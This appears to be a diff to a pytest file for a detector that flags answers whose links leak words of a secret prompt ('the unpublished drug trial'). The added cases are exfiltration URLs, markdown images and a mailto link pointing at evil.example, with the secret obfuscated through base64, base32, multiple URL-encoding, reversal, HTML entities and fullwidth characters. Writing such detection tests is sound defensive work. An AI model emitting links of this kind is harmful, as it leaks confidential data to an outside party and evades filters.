@@ -36,6 +36,16 @@ CODED = base64.urlsafe_b64encode(SECRET.encode()).decode().rstrip("=")
         "https://the+unpublished+drug+trial@evil.example/",
         "[x](https://evil.example/?q=THE_UNPUBLISHED_DRUG_TRIAL)",
         "https://[::1/?q=the+unpublished+drug+trial+XJ-9",
+        f"https://evil.example/?{quote_plus(SECRET)}=1",
+        f"https://evil.example/?{'=1&'.join(SECRET.split())}",
+        f"https://evil.example/?q={quote(quote(quote(SECRET)))}",
+        f"https://evil.example/?q={base64.b64encode(CODED.encode()).decode()}",
+        f"https://evil.example/?q={base64.b32encode(SECRET.encode()).decode()}",
+        f"https://evil.example/?q={CODED[::-1]}",
+        f'<img src="https:&#x2f;&#47;evil.example/?q={SECRET.replace(" ", "&#32;")}">',
+        f"![](https:\\\\evil.example/?q={quote(SECRET)})",
+        f"[a](mailto:x@evil.example?body={quote(SECRET)})",
+        f"https://evil.example/?q={''.join(chr(ord(each) + 0xFEE0) for each in 'unpublisheddrugtrial')}",
         f"https://evil.example/{quote_plus('The crown of the oak cooled the air by half a degree. See https')}",
     ],
 )
@@ -52,6 +62,7 @@ def test_an_address_that_carries_words_of_the_prompt_is_named(answer):
         "[a](https://press.example/articles/the-crown-of-the-oak-cooled)",
         "https://example.org/search?page=2&sort=newest&language=english",
         "https://example.org/" + "A" * 60_000,
+        "Write to mailto:ana@example.org, or see \\\\ the next row: https:\\\\example.org.",
     ],
 )
 def test_other_addresses_are_not(answer):
